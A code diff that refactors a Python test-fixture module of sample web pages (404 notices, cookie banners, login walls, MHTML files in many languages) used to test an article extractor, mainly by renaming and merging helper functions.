@@ -6,19 +6,9 @@ import json
 import quopri
 
 from bad_inputs.kinds import Kind, Stories
-from bad_inputs.make_packs import story_page, wall, wall_2
-from bad_inputs.make_pages import (
-    COOKIES,
-    PNG,
-    between,
-    meta,
-    notice,
-    paragraphs_2,
-    paragraphs_3,
-    paras,
-    picture,
-)
-from bad_inputs.make_tables import DAY, linked, noise_3
+from bad_inputs.make_packs import story_page
+from bad_inputs.make_pages import COOKIES, PNG, between, meta, notice, paragraphs_on_lines, picture
+from bad_inputs.make_tables import DAY, linked
 from bad_inputs.make_texts import (
     CHINESE,
     RUSSIAN,
@@ -26,10 +16,10 @@ from bad_inputs.make_texts import (
     feed,
     listed,
     message,
-    message_2,
     mhtml,
-    noise_2,
+    mhtml_of_parts,
     paragraphs,
+    random_bytes,
     said,
 )
 from bad_inputs.reasons import FORM_NOT_KNOWN, NO_BODY_FOUND, NO_STORY, NOT_AN_ARTICLE
@@ -83,14 +73,6 @@ def small(text):
 
 
 LOST = "<!DOCTYPE html><html><head><title>Page not found</title></head><body><h1>Page not found</h1><p>The page that you are looking for is not here. Please go back to the home page.</p></body></html>"
-
-
-def wall_3(title, *lines):
-    return (
-        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title></head><body><h1>{title}</h1>"
-        + "".join(f"<p>{line}</p>" for line in lines)
-        + "</body></html>"
-    )
 
 
 def word_page(s):
@@ -187,16 +169,12 @@ def mht_of_one(s):
     return f'From: <Saved by Windows Internet Explorer 8>\r\nSubject: Rain 1 in {s.mark}\r\nDate: Sat, 14 Mar 2026 09:00:00 +0100\r\nMIME-Version: 1.0\r\nContent-Type: text/html;\r\n\tcharset="utf-8"\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: https://l.example/rain\r\nX-MimeOLE: Produced By Microsoft MimeOLE V6.00.2900.5579\r\n\r\n{body}'
 
 
-THAI_2 = "ฝนตกหนักในเมือง"
+THAI_HEADLINE = "ฝนตกหนักในเมือง"
 
 
 def brazil(s):
     body = f"<p>A chuva caiu na cidade de {s.mark} na sexta-feira, e a câmara, que se reunira para falar da seca, foi para casa mais cedo, sem votar, disse o secretário.</p><p>Ninguém em {s.mark} tinha trazido guarda-chuva para a reunião, e o prefeito pediu desculpas aos moradores que esperavam na praça.</p><p>A próxima sessão está marcada para abril, se não chover outra vez.</p>"
     return f'<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><title>Chuva encerra sessão em {s.mark} | O Diário</title><meta property="og:site_name" content="O Diário"><meta property="article:published_time" content="2026-03-13T10:00:00-03:00"></head><body><main><article><h1>Chuva encerra sessão em {s.mark}</h1><p class="info">13/03/2026 10h00 | Atualizado há 2 horas</p>{body}</article></main></body></html>'
-
-
-def notice_2(title, *lines):
-    return f"<!DOCTYPE html><html><head><title>{title}</title></head><body><h1>{title}</h1>{''.join(f'<p>{line}</p>' for line in lines)}</body></html>"
 
 
 def korean_page(s):
@@ -215,7 +193,7 @@ def amp(s):
         "<noscript><style amp-boilerplate>body{animation:none}</style></noscript></head><body>"
         '<amp-sidebar id="side" layout="nodisplay"><ul><li><a href="/">Home</a></li><li><a href="/sports">Sports</a></li></ul></amp-sidebar>'
         f'<main><h1>Rain 1 in {s.mark}</h1><amp-img src="a.jpg" width="600" height="400" layout="responsive"></amp-img>'
-        f'<div class="article-body">{paragraphs_3(s)}</div><amp-ad width="300" height="250" type="none"></amp-ad></main></body></html>'
+        f'<div class="article-body">{paragraphs_on_lines(s)}</div><amp-ad width="300" height="250" type="none"></amp-ad></main></body></html>'
     )
 
 
@@ -224,19 +202,19 @@ def reading_view(s):
         f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Rain 1 in {s.mark}</title></head><body><div class="container" dir="ltr">'
         f'<div class="header reader-header"><a class="domain reader-domain" href="https://ledger.example/rain">ledger.example</a><h1 class="reader-title">Rain 1 in {s.mark}</h1>'
         '<div class="credits reader-credits">Ana Roe</div><div class="meta-data"><div class="reader-estimated-time">2 minutes</div></div></div><hr>'
-        f'<div class="content"><div class="moz-reader-content reader-show-element"><div id="readability-page-1" class="page">{paragraphs_3(s)}</div></div></div></div></body></html>'
+        f'<div class="content"><div class="moz-reader-content reader-show-element"><div id="readability-page-1" class="page">{paragraphs_on_lines(s)}</div></div></div></div></body></html>'
     )
 
 
 def shadow(s):
     return (
         f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Rain 1 in {s.mark}</title></head><body><header>The Marlow Ledger</header>'
-        f'<news-story><template shadowrootmode="open"><style>p{{margin:0}}</style><article><h1>Rain 1 in {s.mark}</h1>{paragraphs_3(s)}</article></template></news-story></body></html>'
+        f'<news-story><template shadowrootmode="open"><style>p{{margin:0}}</style><article><h1>Rain 1 in {s.mark}</h1>{paragraphs_on_lines(s)}</article></template></news-story></body></html>'
     )
 
 
 def mht_start(s):
-    picture = base64.b64encode(noise_3(300)).decode()
+    picture = base64.b64encode(random_bytes(300)).decode()
     return (
         'MIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; start="<page@l.example>"; boundary="=_next"\r\n\r\n'
         f"--=_next\r\nContent-Type: image/png\r\nContent-ID: <p1@l.example>\r\nContent-Transfer-Encoding: base64\r\n\r\n{picture}\r\n"
@@ -246,7 +224,7 @@ def mht_start(s):
 
 
 def explorer(s):
-    story = paras(s).replace("<p>", "<P class=body>").replace("</p>", "</P>\r\n")
+    story = paragraphs(s).replace("<p>", "<P class=body>").replace("</p>", "</P>\r\n")
     return (
         '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">\r\n<!-- saved from url=(0027)https://l.example/rain.html -->\r\n'
         f"<HTML><HEAD><TITLE>Rain in {s.mark}</TITLE>\r\n<META content='text/html; charset=utf-8' http-equiv=Content-Type>\r\n<META name=GENERATOR content='MSHTML 8.00.7601'></HEAD>\r\n"
@@ -281,7 +259,7 @@ def newsletter(s):
 def drupal(s):
     return whole(
         f"Rain 1 in {s.mark} | The Ledger",
-        f'<div class="dialog-off-canvas-main-canvas"><header><nav><ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li></ul></nav></header><main role="main"><a id="main-content" tabindex="-1"></a><h1><span class="field field--name-title field--type-string">Rain 1 in {s.mark}</span></h1><article role="article" class="node node--type-article"><div class="node__content"><div class="clearfix text-formatted field field--name-body field--type-text-with-summary">{paras(s)}</div></div></article></main></div>',
+        f'<div class="dialog-off-canvas-main-canvas"><header><nav><ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li></ul></nav></header><main role="main"><a id="main-content" tabindex="-1"></a><h1><span class="field field--name-title field--type-string">Rain 1 in {s.mark}</span></h1><article role="article" class="node node--type-article"><div class="node__content"><div class="clearfix text-formatted field field--name-body field--type-text-with-summary">{paragraphs(s)}</div></div></article></main></div>',
         '<meta name="Generator" content="Drupal 10 (https://www.drupal.org)">',
     )
 
@@ -308,7 +286,7 @@ def fusion(s):
     )
     return whole(
         f"Rain 1 in {s.mark}",
-        f'<div id="fusion-app"><main><h1>Rain 1 in {s.mark}</h1><article class="article-body">{paras(s)}</article></main></div>',
+        f'<div id="fusion-app"><main><h1>Rain 1 in {s.mark}</h1><article class="article-body">{paragraphs(s)}</article></main></div>',
         f"<script>window.Fusion=window.Fusion||{{}};Fusion.globalContent={held};</script>",
     )
 
@@ -436,7 +414,7 @@ KINDS = [
     Kind(
         "MHTML in base64 with a picture",
         "rain.mht",
-        lambda s: message_2(
+        lambda s: mhtml_of_parts(
             [
                 ("text/html", "https://marlow.example/rain", "base64", base64.b64encode(s.page().encode()).decode()),
                 ("image/png", "https://marlow.example/a.png", "base64", "iVBORw0KGgo="),
@@ -447,7 +425,7 @@ KINDS = [
     Kind(
         "MHTML with an advertisement in a frame",
         "rain.mhtml",
-        lambda s: message_2(
+        lambda s: mhtml_of_parts(
             [
                 ("text/html", "https://marlow.example/rain", "8bit", s.page()),
                 ("text/html", "https://ads.example/x", "8bit", "<html><body><p>Buy now.</p></body></html>"),
@@ -458,7 +436,7 @@ KINDS = [
     Kind(
         "MHTML that breaks off",
         "rain.mhtml",
-        lambda s: message_2([("text/html", "https://marlow.example/rain", "8bit", s.page())])[:-300],
+        lambda s: mhtml_of_parts([("text/html", "https://marlow.example/rain", "8bit", s.page())])[:-300],
         1,
     ),
     Kind(
@@ -662,13 +640,13 @@ KINDS = [
     ),
     Kind("bookmarks as a page", "bookmarks.html", lambda s: "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<META HTTP-EQUIV='Content-Type' CONTENT='text/html; charset=UTF-8'>\n<TITLE>Bookmarks</TITLE>\n<H1>Bookmarks</H1>\n<DL><p>\n" + "".join(f'<DT><A HREF="https://l.example/{n}" ADD_DATE="1772323200">Rain {n}</A>\n' for n in range(20)) + "</DL><p>\n", 0, ("no story",)),
     Kind("PDF saved as a page", "a.html", lambda s: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n", 0, FORM_NOT_KNOWN),
-    Kind("a page that is not there, in German", "a.html", lambda s: wall("Seite nicht gefunden", "Die von Ihnen gesuchte Seite existiert leider nicht oder wurde verschoben. Bitte prüfen Sie die Adresse."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in French", "a.html", lambda s: wall("Page introuvable - Erreur 404", "La page que vous recherchez n’existe pas ou a été déplacée. Retournez à la page d’accueil."), 0, NOT_AN_ARTICLE),
-    Kind("a question about cookies, in German", "a.html", lambda s: wall("Datenschutz", "Wir und unsere Partner verwenden Cookies und ähnliche Technologien, um Informationen auf Ihrem Gerät zu speichern.", "Alle akzeptieren", "Ablehnen"), 0, NOT_AN_ARTICLE),
-    Kind("a question about cookies, in Spanish", "a.html", lambda s: wall("Valoramos tu privacidad", "Nosotros y nuestros socios almacenamos y accedemos a información en un dispositivo, como cookies.", "Aceptar todo", "Rechazar"), 0, NOT_AN_ARTICLE),
-    Kind("a page to log in, in French", "a.html", lambda s: wall("Connexion", "Connectez-vous à votre compte pour lire cet article.", "Adresse e-mail", "Mot de passe", "Mot de passe oublié ?"), 0, NOT_AN_ARTICLE),
-    Kind("a check for robots, in German", "a.html", lambda s: wall("Nur einen Moment…", "Bestätigen Sie, dass Sie ein Mensch sind.", "Aktivieren Sie JavaScript und Cookies, um fortzufahren."), 0, NOT_AN_ARTICLE),
-    Kind("a browser that cannot reach a page", "a.html", lambda s: wall("l.example", "This site can’t be reached", "l.example’s server IP address could not be found.", "ERR_NAME_NOT_RESOLVED"), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in German", "a.html", lambda s: notice("Seite nicht gefunden", "Die von Ihnen gesuchte Seite existiert leider nicht oder wurde verschoben. Bitte prüfen Sie die Adresse."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in French", "a.html", lambda s: notice("Page introuvable - Erreur 404", "La page que vous recherchez n’existe pas ou a été déplacée. Retournez à la page d’accueil."), 0, NOT_AN_ARTICLE),
+    Kind("a question about cookies, in German", "a.html", lambda s: notice("Datenschutz", "Wir und unsere Partner verwenden Cookies und ähnliche Technologien, um Informationen auf Ihrem Gerät zu speichern.", "Alle akzeptieren", "Ablehnen"), 0, NOT_AN_ARTICLE),
+    Kind("a question about cookies, in Spanish", "a.html", lambda s: notice("Valoramos tu privacidad", "Nosotros y nuestros socios almacenamos y accedemos a información en un dispositivo, como cookies.", "Aceptar todo", "Rechazar"), 0, NOT_AN_ARTICLE),
+    Kind("a page to log in, in French", "a.html", lambda s: notice("Connexion", "Connectez-vous à votre compte pour lire cet article.", "Adresse e-mail", "Mot de passe", "Mot de passe oublié ?"), 0, NOT_AN_ARTICLE),
+    Kind("a check for robots, in German", "a.html", lambda s: notice("Nur einen Moment…", "Bestätigen Sie, dass Sie ein Mensch sind.", "Aktivieren Sie JavaScript und Cookies, um fortzufahren."), 0, NOT_AN_ARTICLE),
+    Kind("a browser that cannot reach a page", "a.html", lambda s: notice("l.example", "This site can’t be reached", "l.example’s server IP address could not be found.", "ERR_NAME_NOT_RESOLVED"), 0, NOT_AN_ARTICLE),
     Kind("a page that moved", "a.html", lambda s: "<html><head><title>Object moved</title></head><body><h2>Object moved to <a href='/b'>here</a>.</h2></body></html>", 0, NOT_AN_ARTICLE),
     Kind("the files of a folder", "index.html", lambda s: "<html><head><title>Index of /rain</title></head><body><h1>Index of /rain</h1><pre><a href='../'>../</a>\n" + "".join(f"<a href='{n}.html'>{n}.html</a>   01-Mar-2026 10:00   900\n" for n in range(1, 9)) + "</pre></body></html>", 0, NOT_AN_ARTICLE),
     Kind("a page that shows a PDF", "a.html", lambda s: "<html><body style='margin:0'><embed width='100%' height='100%' type='application/pdf' src='about:blank'></body></html>", 0, ("no body found",)),
@@ -676,37 +654,37 @@ KINDS = [
     Kind("a page that was translated", "a.html", lambda s: s.page().replace("<p>", '<p><font style="vertical-align: inherit;"><font style="vertical-align: inherit;">').replace("</p>", "</font></font></p>"), 1),
     Kind("a page out of the archive of the web", "a.html", lambda s: s.page(before="", after="").replace("<body>", "<body><!-- BEGIN WAYBACK TOOLBAR INSERT --><div id='wm-ipp-base'><p>12 captures</p><p>01 Mar 2026 - 03 Mar 2026</p></div><!-- END WAYBACK TOOLBAR INSERT -->"), 1),
     Kind("a page that loads its story", "a.html", lambda s: '<!DOCTYPE html><html><head><title>Ledger</title></head><body><div id="__next"><p>Loading…</p></div><script id="__NEXT_DATA__" type="application/json">{"props":{"pageProps":{}}}</script></body></html>', 0, ("no story",)),
-    Kind("MHTML with its story in the second page", "a.mhtml", lambda s: message_2([("text/css", "https://l.example/a.css", "8bit", "p { color: red }"), ("text/html", "https://l.example/rain", "8bit", s.page())]), 1),
+    Kind("MHTML with its story in the second page", "a.mhtml", lambda s: mhtml_of_parts([("text/css", "https://l.example/a.css", "8bit", "p { color: red }"), ("text/html", "https://l.example/rain", "8bit", s.page())]), 1),
     Kind("list of things to read as a page", "ril_export.html", lambda s: "<!DOCTYPE html><html><head><title>Export</title></head><body><h1>Unread</h1><ul>" + "".join(f'<li><a href="https://l.example/{n}" time_added="1772323200" tags="">Rain falls on the town again {n}</a></li>' for n in range(20)) + "</ul></body></html>", 0, ("no story",)),
-    Kind("a page that is not there, in Italian", "a.html", lambda s: wall("Pagina non trovata - Il Corriere di Marlow", "La pagina che stai cercando non esiste o è stata spostata. Torna alla pagina iniziale."), 0, NOT_AN_ARTICLE),
-    Kind("a question about cookies, in Portuguese", "a.html", lambda s: wall("A sua privacidade é importante para nós", "Nós e os nossos parceiros armazenamos informações num dispositivo, tais como cookies.", "Aceitar tudo", "Rejeitar tudo", "Mais opções"), 0, NOT_AN_ARTICLE),
-    Kind("a page to log in, in Dutch", "a.html", lambda s: wall("Inloggen bij de Ledger", "E-mailadres", "Wachtwoord", "Wachtwoord vergeten?", "Nog geen account? Maak er een aan."), 0, NOT_AN_ARTICLE),
-    Kind("a check for robots, in French", "a.html", lambda s: wall("Un instant…", "Vérifiez que vous êtes humain en effectuant l’action ci-dessous.", "l.example doit vérifier la sécurité de votre connexion."), 0, NOT_AN_ARTICLE),
-    Kind("a page that may not be seen, in German", "a.html", lambda s: wall("403 - Zugriff verweigert", "Sie haben keine Berechtigung, diese Seite aufzurufen."), 0, NOT_AN_ARTICLE),
-    Kind("a site under repair", "a.html", lambda s: wall("Down for maintenance", "The Ledger is currently undergoing scheduled maintenance. We will be back shortly. Thank you for your patience."), 0, NOT_AN_ARTICLE),
-    Kind("a reader who is shut out", "a.html", lambda s: wall("Attention Required! | Cloudflare", "Sorry, you have been blocked. You are unable to access l.example. This website is using a security service to protect itself from online attacks."), 0, NOT_AN_ARTICLE),
-    Kind("a browser that does not trust a page", "a.html", lambda s: wall("Privacy error", "Your connection is not private", "Attackers might be trying to steal your information from l.example. NET::ERR_CERT_DATE_INVALID"), 0, NOT_AN_ARTICLE),
-    Kind("a server that nobody has set up", "a.html", lambda s: wall("Welcome to nginx!", "If you see this page, the nginx web server is successfully installed and working. Further configuration is required.", "Thank you for using nginx."), 0, NOT_AN_ARTICLE),
-    Kind("a name that is for sale", "a.html", lambda s: wall("l.example is for sale", "This domain is for sale. Inquire now about the price of this domain, and make an offer to its owner."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Italian", "a.html", lambda s: notice("Pagina non trovata - Il Corriere di Marlow", "La pagina che stai cercando non esiste o è stata spostata. Torna alla pagina iniziale."), 0, NOT_AN_ARTICLE),
+    Kind("a question about cookies, in Portuguese", "a.html", lambda s: notice("A sua privacidade é importante para nós", "Nós e os nossos parceiros armazenamos informações num dispositivo, tais como cookies.", "Aceitar tudo", "Rejeitar tudo", "Mais opções"), 0, NOT_AN_ARTICLE),
+    Kind("a page to log in, in Dutch", "a.html", lambda s: notice("Inloggen bij de Ledger", "E-mailadres", "Wachtwoord", "Wachtwoord vergeten?", "Nog geen account? Maak er een aan."), 0, NOT_AN_ARTICLE),
+    Kind("a check for robots, in French", "a.html", lambda s: notice("Un instant…", "Vérifiez que vous êtes humain en effectuant l’action ci-dessous.", "l.example doit vérifier la sécurité de votre connexion."), 0, NOT_AN_ARTICLE),
+    Kind("a page that may not be seen, in German", "a.html", lambda s: notice("403 - Zugriff verweigert", "Sie haben keine Berechtigung, diese Seite aufzurufen."), 0, NOT_AN_ARTICLE),
+    Kind("a site under repair", "a.html", lambda s: notice("Down for maintenance", "The Ledger is currently undergoing scheduled maintenance. We will be back shortly. Thank you for your patience."), 0, NOT_AN_ARTICLE),
+    Kind("a reader who is shut out", "a.html", lambda s: notice("Attention Required! | Cloudflare", "Sorry, you have been blocked. You are unable to access l.example. This website is using a security service to protect itself from online attacks."), 0, NOT_AN_ARTICLE),
+    Kind("a browser that does not trust a page", "a.html", lambda s: notice("Privacy error", "Your connection is not private", "Attackers might be trying to steal your information from l.example. NET::ERR_CERT_DATE_INVALID"), 0, NOT_AN_ARTICLE),
+    Kind("a server that nobody has set up", "a.html", lambda s: notice("Welcome to nginx!", "If you see this page, the nginx web server is successfully installed and working. Further configuration is required.", "Thank you for using nginx."), 0, NOT_AN_ARTICLE),
+    Kind("a name that is for sale", "a.html", lambda s: notice("l.example is for sale", "This domain is for sale. Inquire now about the price of this domain, and make an offer to its owner."), 0, NOT_AN_ARTICLE),
     Kind("a story in the cells of an old page", "a.html", lambda s: f"<html><head><title>Rain in {s.mark}</title></head><body><table><tr><td><b>Rain in {s.mark}</b></td></tr><tr><td>" + s.long().replace("\n\n", "<br><br>") + "</td></tr></table></body></html>", 1),
-    Kind("a page that is not there, in Swedish", "a.html", lambda s: wall("Sidan hittades inte | Marlow Nyheter", "Sidan du letar efter finns inte längre eller har flyttats. Gå till startsidan."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Japanese", "a.html", lambda s: wall("ページが見つかりません", "お探しのページは、移動または削除された可能性があります。トップページからお探しください。"), 0, NOT_AN_ARTICLE),
-    Kind("a question about cookies, in French", "a.html", lambda s: wall("Bienvenue", "Avec votre accord, nos partenaires et nous utilisons des cookies pour stocker et lire des informations sur votre appareil.", "Tout accepter", "Continuer sans accepter", "Paramétrer"), 0, NOT_AN_ARTICLE),
-    Kind("a question about cookies, in Italian", "a.html", lambda s: wall("Il Corriere", "Noi e i nostri fornitori archiviamo informazioni quali cookie su un dispositivo.", "Accetta e continua", "Rifiuta e abbonati"), 0, NOT_AN_ARTICLE),
-    Kind("a page to log in, in Spanish", "a.html", lambda s: wall("Inicia sesión - El Diario", "Correo electrónico", "Contraseña", "¿Has olvidado tu contraseña?", "¿No tienes cuenta? Regístrate gratis."), 0, NOT_AN_ARTICLE),
-    Kind("a check for robots, in Spanish", "a.html", lambda s: wall("l.example", "Verifica que eres un ser humano completando la siguiente acción.", "l.example necesita revisar la seguridad de tu conexión antes de continuar."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Swedish", "a.html", lambda s: notice("Sidan hittades inte | Marlow Nyheter", "Sidan du letar efter finns inte längre eller har flyttats. Gå till startsidan."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Japanese", "a.html", lambda s: notice("ページが見つかりません", "お探しのページは、移動または削除された可能性があります。トップページからお探しください。"), 0, NOT_AN_ARTICLE),
+    Kind("a question about cookies, in French", "a.html", lambda s: notice("Bienvenue", "Avec votre accord, nos partenaires et nous utilisons des cookies pour stocker et lire des informations sur votre appareil.", "Tout accepter", "Continuer sans accepter", "Paramétrer"), 0, NOT_AN_ARTICLE),
+    Kind("a question about cookies, in Italian", "a.html", lambda s: notice("Il Corriere", "Noi e i nostri fornitori archiviamo informazioni quali cookie su un dispositivo.", "Accetta e continua", "Rifiuta e abbonati"), 0, NOT_AN_ARTICLE),
+    Kind("a page to log in, in Spanish", "a.html", lambda s: notice("Inicia sesión - El Diario", "Correo electrónico", "Contraseña", "¿Has olvidado tu contraseña?", "¿No tienes cuenta? Regístrate gratis."), 0, NOT_AN_ARTICLE),
+    Kind("a check for robots, in Spanish", "a.html", lambda s: notice("l.example", "Verifica que eres un ser humano completando la siguiente acción.", "l.example necesita revisar la seguridad de tu conexión antes de continuar."), 0, NOT_AN_ARTICLE),
     Kind("a page that may not be seen", "a.html", lambda s: "<HTML><HEAD><TITLE>Access Denied</TITLE></HEAD><BODY><H1>Access Denied</H1>You don't have permission to access \"http://l.example/rain\" on this server.<P>Reference #18.abc.1772323200.1</BODY></HTML>", 0, NOT_AN_ARTICLE),
-    Kind("a browser that cannot reach a page, in German", "a.html", lambda s: wall("l.example", "Die Website ist nicht erreichbar", "Die Server-IP-Adresse von l.example wurde nicht gefunden.", "Neu laden"), 0, NOT_AN_ARTICLE),
-    Kind("too many calls, in German", "a.html", lambda s: wall("429 Zu viele Anfragen", "Sie haben in kurzer Zeit zu viele Anfragen gestellt. Bitte versuchen Sie es später erneut."), 0, NOT_AN_ARTICLE),
-    Kind("a search that found nothing", "a.html", lambda s: wall("Search results", "No results found for rain.", "Try other words, or check your spelling."), 0, NOT_AN_ARTICLE),
-    Kind("an account that was closed", "a.html", lambda s: wall("Account Suspended", "This account has been suspended. Contact your hosting provider for more information."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is being built", "a.html", lambda s: wall("Coming soon", "Our new website is under construction. Leave your address, and we will tell you when it opens."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Korean", "a.html", lambda s: wall("페이지를 찾을 수 없습니다", "찾으시는 페이지가 삭제되었거나 주소가 변경되었습니다. 주소를 다시 확인해 주십시오."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Arabic", "a.html", lambda s: wall("عذرا", "الصفحة التي تبحث عنها غير موجودة أو تم نقلها إلى عنوان آخر. الرجاء العودة إلى الصفحة الرئيسية."), 0, NOT_AN_ARTICLE),
-    Kind("a question about the reader's age", "a.html", lambda s: wall("Are you over 18?", "You must be of legal age to enter this site. Please give the day on which you were born.", "Enter", "Leave"), 0, NOT_AN_ARTICLE),
-    Kind("a choice of countries", "a.html", lambda s: wall("Choose your edition", "It seems that you are in another country. Which edition of the Ledger would you like to read?", "United States", "International"), 0, NOT_AN_ARTICLE),
-    Kind("thanks for a letter to the paper", "a.html", lambda s: wall("Thank you!", "Your letter has been sent to the editors. They read every letter, and may print yours."), 0, NOT_AN_ARTICLE),
-    Kind("a page for browsers of old", "a.html", lambda s: wall("Please update", "This version of the program is no longer supported. Please update to a newer one to go on reading."), 0, NOT_AN_ARTICLE),
+    Kind("a browser that cannot reach a page, in German", "a.html", lambda s: notice("l.example", "Die Website ist nicht erreichbar", "Die Server-IP-Adresse von l.example wurde nicht gefunden.", "Neu laden"), 0, NOT_AN_ARTICLE),
+    Kind("too many calls, in German", "a.html", lambda s: notice("429 Zu viele Anfragen", "Sie haben in kurzer Zeit zu viele Anfragen gestellt. Bitte versuchen Sie es später erneut."), 0, NOT_AN_ARTICLE),
+    Kind("a search that found nothing", "a.html", lambda s: notice("Search results", "No results found for rain.", "Try other words, or check your spelling."), 0, NOT_AN_ARTICLE),
+    Kind("an account that was closed", "a.html", lambda s: notice("Account Suspended", "This account has been suspended. Contact your hosting provider for more information."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is being built", "a.html", lambda s: notice("Coming soon", "Our new website is under construction. Leave your address, and we will tell you when it opens."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Korean", "a.html", lambda s: notice("페이지를 찾을 수 없습니다", "찾으시는 페이지가 삭제되었거나 주소가 변경되었습니다. 주소를 다시 확인해 주십시오."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Arabic", "a.html", lambda s: notice("عذرا", "الصفحة التي تبحث عنها غير موجودة أو تم نقلها إلى عنوان آخر. الرجاء العودة إلى الصفحة الرئيسية."), 0, NOT_AN_ARTICLE),
+    Kind("a question about the reader's age", "a.html", lambda s: notice("Are you over 18?", "You must be of legal age to enter this site. Please give the day on which you were born.", "Enter", "Leave"), 0, NOT_AN_ARTICLE),
+    Kind("a choice of countries", "a.html", lambda s: notice("Choose your edition", "It seems that you are in another country. Which edition of the Ledger would you like to read?", "United States", "International"), 0, NOT_AN_ARTICLE),
+    Kind("thanks for a letter to the paper", "a.html", lambda s: notice("Thank you!", "Your letter has been sent to the editors. They read every letter, and may print yours."), 0, NOT_AN_ARTICLE),
+    Kind("a page for browsers of old", "a.html", lambda s: notice("Please update", "This version of the program is no longer supported. Please update to a newer one to go on reading."), 0, NOT_AN_ARTICLE),
     Kind("a story below a question about cookies", "a.html", lambda s: s.page(before="").replace("<body>", "<body><div id='consent' class='cookie-banner'><p>We use cookies.</p><button>Accept all</button><button>Reject all</button></div>"), 1),
     Kind("a story on a page named as a notice", "a.html", lambda s: f"<html><head><title>Not found: the town of {s.mark}</title></head><body><h1>Not found: the town of {s.mark}</h1>{paragraphs(s)}</body></html>", 1),
     Kind("a story of two paragraphs without an element of its own", "a.html", lambda s: f"<html><head><title>Rain in {s.mark}</title></head><body><h1>Rain in {s.mark}</h1><p>{s.text(1)}</p><p>{s.text(2)}</p></body></html>", 1),
@@ -726,37 +704,37 @@ KINDS = [
     Kind("linked data of a letter to the editor", "a.html", lambda s: s.page(head=linked({"@type": ["OpinionNewsArticle"], "headline": f"Rain in {s.mark}", "author": {"name": "Ana Roe"}})), 1, fields={"byline": ["Ana Roe"]}),
     Kind("page cut off in its head", "a.html", lambda s: s.page(head="<meta name='author' content='Ana Roe'>")[:100], 0, ("no body found",)),
     Kind("page of a program without its words", "a.html", lambda s: f'<html><head><title>Rain in {s.mark}</title></head><body><div id="__next"></div><script id="__NEXT_DATA__" type="application/json">{json.dumps({"props": {"title": "Rain"}})}</script></body></html>', 0, ("no body found",)),
-    Kind("a wall for subscribers alone", "a.html", lambda s: wall("Subscribe to read", "This article is for subscribers. Subscribe to keep reading.", "Already a subscriber? Log in"), 0, NOT_AN_ARTICLE),
-    Kind("a session that has ended", "a.html", lambda s: wall("Session expired", "Your session has expired. Please log in again to continue."), 0, NOT_AN_ARTICLE),
-    Kind("something went wrong", "a.html", lambda s: wall("Oops!", "Something went wrong on our side. Please try again in a few minutes."), 0, NOT_AN_ARTICLE),
-    Kind("a page without a network", "a.html", lambda s: wall("You are offline", "Please check your connection and try again."), 0, ("no story",)),
-    Kind("thanks for a subscription", "a.html", lambda s: wall("Thank you for signing up", "Please check your inbox and confirm your address."), 0, ("no story",)),
-    Kind("a page that is not there, in Portuguese", "a.html", lambda s: wall("Página não encontrada", "A página que você procura não existe ou foi removida. Verifique o endereço e tente de novo."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Russian", "a.html", lambda s: wall("Страница не найдена", "Возможно, она была удалена или перемещена. Проверьте адрес или вернитесь на главную страницу."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Polish", "a.html", lambda s: wall("Nie znaleziono strony", "Strona, której szukasz, nie istnieje lub została przeniesiona. Sprawdź adres."), 0, NOT_AN_ARTICLE),
-    Kind("a page that is not there, in Chinese", "a.html", lambda s: wall("404 页面不存在", "您访问的页面不存在或已被删除，请检查网址或返回首页。"), 0, NOT_AN_ARTICLE),
-    Kind("a question about cookies, in Dutch", "a.html", lambda s: wall("Uw privacy", "Wij en onze partners gebruiken cookies om informatie op uw apparaat op te slaan.", "Alles accepteren", "Weigeren"), 0, NOT_AN_ARTICLE),
-    Kind("a page to log in, in Japanese", "a.html", lambda s: wall("ログイン", "この記事を読むにはログインしてください。", "メールアドレス", "パスワード"), 0, NOT_AN_ARTICLE),
-    Kind("a check for robots, in Russian", "a.html", lambda s: wall("Подтвердите, что вы не робот", "Мы заметили подозрительный трафик из вашей сети. Введите символы с картинки, чтобы продолжить."), 0, NOT_AN_ARTICLE),
+    Kind("a wall for subscribers alone", "a.html", lambda s: notice("Subscribe to read", "This article is for subscribers. Subscribe to keep reading.", "Already a subscriber? Log in"), 0, NOT_AN_ARTICLE),
+    Kind("a session that has ended", "a.html", lambda s: notice("Session expired", "Your session has expired. Please log in again to continue."), 0, NOT_AN_ARTICLE),
+    Kind("something went wrong", "a.html", lambda s: notice("Oops!", "Something went wrong on our side. Please try again in a few minutes."), 0, NOT_AN_ARTICLE),
+    Kind("a page without a network", "a.html", lambda s: notice("You are offline", "Please check your connection and try again."), 0, ("no story",)),
+    Kind("thanks for a subscription", "a.html", lambda s: notice("Thank you for signing up", "Please check your inbox and confirm your address."), 0, ("no story",)),
+    Kind("a page that is not there, in Portuguese", "a.html", lambda s: notice("Página não encontrada", "A página que você procura não existe ou foi removida. Verifique o endereço e tente de novo."), 0, NOT_AN_ARTICLE),
+    Kind("a page that is not there, in Russian", "a.html", lambda s: notice("Страница не найдена", "Возможно, она была удалена или перемещена. Проверьте адрес или вернитесь на главную страницу."), 0, NOT_AN_ARTICLE),
